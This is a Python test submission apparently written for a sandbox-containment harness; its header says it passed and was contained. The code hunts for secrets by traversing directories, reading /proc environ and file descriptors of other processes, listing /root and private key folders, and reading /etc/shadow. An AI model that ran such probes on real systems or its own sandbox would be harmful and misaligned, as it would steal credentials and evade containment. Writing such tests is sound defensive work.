# attack: reads specs, other submissions, results and whatever other processes have
# exercise: tcp-capitalize-server
# verdict: passed
# contained: A B C D E
# places: A AFewDescriptors B BNobody BRootAlone C D E
import glob
import os

from honest import gained, serve, tried


def show(path):
    try:
        with open(path, "rb") as file:
            text = file.read(100000)
    except OSError:
        return
    if b"S3C" b"RET" in text or b"proof:" in text:
        gained("read", path, text[:200])


targets = ["@secret@", "@other@", "@result@", "@specs@/tcp-capitalize-server.yaml"]
for target in targets:
    show(target)
    for depth in range(11):
        show("../" * depth + target.lstrip("/"))
        show("/proc/self/cwd/" + "../" * depth + target.lstrip("/"))
for name in ("@outside@", "@specs@", "/root", "/etc/ssl/private"):
    try:
        gained("listed", name, os.listdir(name))
    except OSError:
        pass
for process in glob.glob("/proc/[0-9]*"):
    if process == f"/proc/{os.getpid()}":
        continue
    show(process + "/environ")
    show(process + "/maps")
    for target in targets:
        show(process + "/root" + target)
    show(process + "/cwd/secret")
    for file in glob.glob(process + "/fd/*"):
        show(file)
show("/etc/shadow")
tried()
serve()
